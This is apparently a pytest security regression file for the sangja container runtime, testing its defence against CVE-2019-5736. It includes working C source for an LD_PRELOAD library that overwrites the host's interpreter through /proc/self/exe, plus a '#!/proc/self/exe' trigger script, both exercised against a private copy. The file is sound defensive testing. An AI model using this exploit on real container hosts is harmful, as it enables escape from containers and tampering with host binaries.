"""CVE-2019-5736 through a `#!/proc/self/exe` program (issue 9, item 1).

The container's init and every `exec`'d process are forks of the runtime, so until their
last exec their executable is the host's Python interpreter. If that process exec'd a
script starting `#!/proc/self/exe`, the kernel would run the host's interpreter again,
inside the container, loaded by the image's own glibc loader: an LD_PRELOAD library of the
image's then runs as a process whose /proc/self/exe is the host's interpreter, which it can
reopen for writing once the interpreter is no longer running.

The defence: the last exec goes through sangja-exec, a static helper run from a sealed
memfd (src/sangja/runtime/sealed_exec.py). Each attack here runs twice, against an
installation with the defence and against the same code with the last exec done directly
(the old behaviour, patched in): the second shows the attack is real, the first that it
is closed. Both installations run a private COPY of the interpreter, so a successful attack
overwrites that copy and never the host's.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import tarfile
import tempfile
import time
from pathlib import Path

import pytest

from conftest import add_mounts, bind, new_id, wait_until

pytestmark = [pytest.mark.root, pytest.mark.sangja_only]

REPO = Path(__file__).resolve().parents[2]
SRC = REPO / "src"
VENV = REPO / ".venv"

# The attacker's library: when loaded into a process running a host executable it logs
# what that executable is, and (with SANGJA_EVIL_WRITE) leaves behind a process that keeps
# an O_PATH fd of it and overwrites it as soon as nothing runs it any more.
EVIL_C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

__attribute__((constructor)) static void evil(void)
{
    char exe[512] = "?", cmd[512];
    struct stat st = {0};

    if (!getenv("SANGJA_EVIL"))
        return;
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (n > 0)
        exe[n] = 0;
    stat("/proc/self/exe", &st);
    int log = open("/out/log", O_WRONLY | O_CREAT | O_APPEND, 0644);
    dprintf(log, "exe=%s dev=%lu ino=%lu\n", exe, (unsigned long)st.st_dev,
            (unsigned long)st.st_ino);
    close(log);
    if (getenv("SANGJA_EVIL_WRITE")) {
        int fd = open("/proc/self/exe", O_PATH); /* inherited by the writer */
        if (fd >= 0 && fork() == 0) {
            snprintf(cmd, sizeof cmd,
                     "i=0; while [ $i -lt 2000 ]; do "
                     "if echo PWNED 2>/dev/null >/proc/self/fd/%d; then "
                     "echo WROTE >>/out/log; exit 0; fi; i=$((i+1)); usleep 10000; done", fd);
            unsetenv("LD_PRELOAD");
            execl("/bin/busybox", "sh", "-c", cmd, (char *)0);
        }
    }
    _exit(0);
}
"""

# The old behaviour: the runtime's process execs the container's program itself.
UNDEFENDED = ("import os\nimport sangja.runtime.sealed_exec as _sealed\n"
              "_sealed.execve = lambda fd, path, args, env: os.execve(path, args, env)\n")


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _interpreter() -> Path:
    return Path(os.path.realpath(VENV / "bin" / "python3"))


def _fake_install(top: Path, defended: bool) -> Path:
    """bin/python3 (a copy of the interpreter), bin/sangja and bin/sangja-runtime running
    this checkout on it, libexec/sangja/ with the monitor and sangja-exec."""
    d = top / ("defended" if defended else "undefended")
    (d / "bin").mkdir(parents=True)
    (d / "libexec" / "sangja").mkdir(parents=True)
    py = d / "bin" / "python3"
    shutil.copy2(_interpreter(), py)
    for name in ("sangja-exec", "sangja-monitor"):
        shutil.copy2(VENV / "libexec" / "sangja" / name, d / "libexec" / "sangja" / name)
    for cmd, module in (("sangja-runtime", "runtime"), ("sangja", "engine")):
        script = d / "bin" / cmd
        script.write_text(f"#!{py} -S\nimport sys\nsys.path.insert(0, {str(SRC)!r})\n"
                          + ("" if defended else UNDEFENDED)
                          + f"from sangja.cli.{module} import main\n"
                          "from sangja.cli import leave\nleave(main())\n")
        script.chmod(0o755)
    return d


def _loader_and_libraries() -> list[Path]:
    """What the interpreter needs from the image to start: its glibc loader and libraries
    (any Debian-based image ships them)."""
    out = subprocess.run(["ldd", str(_interpreter())], capture_output=True, text=True,
                         check=True).stdout
    found = re.findall(r"(/\S+) \(0x", out)
    return [Path(p) for p in found]


@pytest.fixture(scope="module")
def attack_files(tmp_path_factory, busybox_rootfs):
    """A root filesystem with busybox, the interpreter's loader and libraries, the
    attacker's library and the `#!/proc/self/exe` script."""
    if not shutil.which("gcc") or not shutil.which("ldd"):
        pytest.skip("needs gcc and ldd to build the attacker's library")
    top = tmp_path_factory.mktemp("selfexe")
    rootfs = top / "rootfs"
    subprocess.run(["cp", "-a", str(busybox_rootfs), str(rootfs)], check=True)
    for lib in _loader_and_libraries():
        dest = rootfs / lib.relative_to("/")
        dest.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(lib, dest)
    (top / "evil.c").write_text(EVIL_C)
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(rootfs / "evil.so"),
                    str(top / "evil.c")], check=True)
    (rootfs / "x.sh").write_text("#!/proc/self/exe\n")
    (rootfs / "x.sh").chmod(0o755)
    (rootfs / "out").mkdir(exist_ok=True)
    return rootfs


def _log(out: Path) -> str:
    p = out / "log"
    return p.read_text() if p.exists() else ""


def _bundle(tmp_path: Path, rootfs: Path, out: Path, args: list[str], env: list[str]) -> Path:
    from conftest import BASE_CONFIG, deep_merge

    bundle = tmp_path / f"bundle-{new_id()}"
    bundle.mkdir()
    config = deep_merge(BASE_CONFIG, {"root": {"path": str(rootfs), "readonly": True}})
    config["process"]["args"] = args
    config["process"]["env"] = config["process"]["env"] + env
    add_mounts(bind(out, "/out"))(config)
    (bundle / "config.json").write_text(json.dumps(config))
    return bundle


EVIL_ENV = ["LD_PRELOAD=/evil.so", "SANGJA_EVIL=1"]


@pytest.mark.parametrize("defended", [True, False], ids=["defended", "undefended"])
def test_runtime_run_of_proc_self_exe_script(attack_files, tmp_path, defended):
    """`sangja-runtime run` of a container whose program is `#!/proc/self/exe`."""
    install = _fake_install(tmp_path, defended)
    out = tmp_path / "out"
    out.mkdir()
    bundle = _bundle(tmp_path, attack_files, out, ["/x.sh"], EVIL_ENV)
    state = tmp_path / "state"
    r = subprocess.run([str(install / "bin" / "sangja-runtime"), "--root", str(state), "run",
                        "--bundle", str(bundle), new_id()], capture_output=True, text=True,
                       timeout=60)
    log = _log(out)
    if not defended:
        # The attack works: the image's library ran in a process of the host's interpreter.
        assert f"exe={install / 'bin' / 'python3'}" in log, (log, r)
        return
    assert log == "", f"the image's library ran in a runtime process: {log}"
    assert r.returncode == 127 and "sangja-exec: usage" in r.stderr, r


@pytest.mark.parametrize("defended", [True, False], ids=["defended", "undefended"])
def test_runtime_exec_of_proc_self_exe_script(attack_files, tmp_path, defended):
    """`sangja-runtime exec` of the script into a running container: undefended, the
    attacker overwrites the interpreter (here: the installation's copy) after the exec."""
    install = _fake_install(tmp_path, defended)
    py = install / "bin" / "python3"
    before = _sha(py)
    out = tmp_path / "out"
    out.mkdir()
    bundle = _bundle(tmp_path, attack_files, out, ["sleep", "1000"], [])
    state = tmp_path / "state"
    rt = [str(install / "bin" / "sangja-runtime"), "--root", str(state)]
    cid = new_id()
    subprocess.run([*rt, "run", "-d", "--bundle", str(bundle), cid], check=True, timeout=60,
                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
    try:
        env = [a for e in [*EVIL_ENV, "SANGJA_EVIL_WRITE=1"] for a in ("--env", e)]
        r = subprocess.run([*rt, "exec", *env, cid, "/x.sh"], capture_output=True, text=True,
                           timeout=60)
        if not defended:
            wait_until(lambda: "WROTE" in _log(out), timeout=30,
                       message="the undefended attack to overwrite the interpreter's copy")
            assert py.read_bytes().startswith(b"PWNED"), "the copy was not overwritten"
            return
        assert r.returncode == 127 and "sangja-exec: usage" in r.stderr, r
        time.sleep(0.5)  # a writer would have been started by now
        assert _log(out) == "", f"the image's library ran in a runtime process: {_log(out)}"
    finally:  # with the real runtime: the installation may have been overwritten
        subprocess.run([str(VENV / "bin" / "sangja-runtime"), "--root", str(state), "delete",
                        "--force", cid], timeout=60)
    assert _sha(py) == before


@pytest.mark.parametrize("defended", [True, False], ids=["defended", "undefended"])
def test_engine_run_and_exec_of_proc_self_exe_script(attack_files, tmp_path, defended):
    """The engine: `sangja run IMAGE /x.sh` and `sangja exec C /x.sh`."""
    from engine_cli import Cli, remove_everything, wait_no_leaks

    install = _fake_install(tmp_path, defended)
    py = install / "bin" / "python3"
    before = _sha(py)
    out = tmp_path / "out"
    out.mkdir()
    top = Path(tempfile.mkdtemp(prefix="sj-", dir="/tmp"))  # short: the attach socket path

    class FakeCli(Cli):
        def argv(self, *args: str) -> list[str]:
            return [str(install / "bin" / "sangja"), "--root", str(self.root),
                    "--runroot", str(self.runroot), *map(str, args)]

    cli = FakeCli(top / "r", top / "rr")
    env = {**os.environ, "PATH": f"{install / 'bin'}:{os.environ.get('PATH', '')}"}
    try:
        archive = tmp_path / "attack.tar"
        with tarfile.open(archive, "w") as tar:
            tar.add(attack_files, arcname=".")
        cli.ok("import", str(archive), "attack:1", env=env)
        evil = [a for e in EVIL_ENV for a in ("-e", e)]
        r = cli("run", "--rm", "-v", f"{out}:/out", *evil, "attack:1", "/x.sh", env=env)
        if not defended:
            assert f"exe={py}" in _log(out), (_log(out), r)
        else:
            assert r.returncode == 127 and "sangja-exec: usage" in r.stderr, r
            assert _log(out) == "", f"the image's library ran in an engine process: {_log(out)}"
        cid = cli.ok("run", "-d", "-v", f"{out}:/out", "attack:1", "sleep", "1000",
                     env=env).strip()
        (out / "log").unlink(missing_ok=True)
        r = cli("exec", *evil, "-e", "SANGJA_EVIL_WRITE=1", cid, "/x.sh", env=env)
        if not defended:
            wait_until(lambda: "WROTE" in _log(out), timeout=30,
                       message="the undefended attack to overwrite the interpreter's copy")
            assert py.read_bytes().startswith(b"PWNED")
            return
        assert r.returncode == 127 and "sangja-exec: usage" in r.stderr, r
        time.sleep(0.5)
        assert _log(out) == "", f"the image's library ran in an engine process: {_log(out)}"
        assert _sha(py) == before
    finally:  # with the real CLI: the installation may have been overwritten
        real = Cli(cli.root, cli.runroot)
        real.seen = cli.seen
        remove_everything(real)
        wait_no_leaks(real)
        subprocess.run(["umount", "-R", "-l", str(top)], capture_output=True)
        shutil.rmtree(top, ignore_errors=True)


def test_missing_helper_is_one_line_and_leaves_nothing(tmp_path, busybox_rootfs):
    """Without sangja-exec the runtime cannot run a program safely: it refuses, with one
    line naming the fix, and leaves no container behind."""
    from conftest import BASE_CONFIG

    bundle = tmp_path / "bundle"
    bundle.mkdir()
    config = json.loads(json.dumps(BASE_CONFIG))
    rootfs = tmp_path / "rootfs"  # a copy: the session's shared rootfs stays as built
    subprocess.run(["cp", "-a", str(busybox_rootfs), str(rootfs)], check=True)
    config["root"]["path"] = str(rootfs)
    config["process"]["args"] = ["true"]
    (bundle / "config.json").write_text(json.dumps(config))
    state = tmp_path / "state"
    env = {**os.environ, "SANGJA_EXEC_HELPER": str(tmp_path / "missing")}
    r = subprocess.run([str(VENV / "bin" / "sangja-runtime"), "--root", str(state), "run",
                        "--bundle", str(bundle), new_id()], capture_output=True, text=True,
                       env=env, timeout=60)
    assert r.returncode != 0
    lines = r.stderr.splitlines()
    assert len(lines) == 1 and "sangja-exec not found" in lines[0] and "make install" in lines[0]
    assert [p for p in state.iterdir() if not p.name.startswith("~")] == []
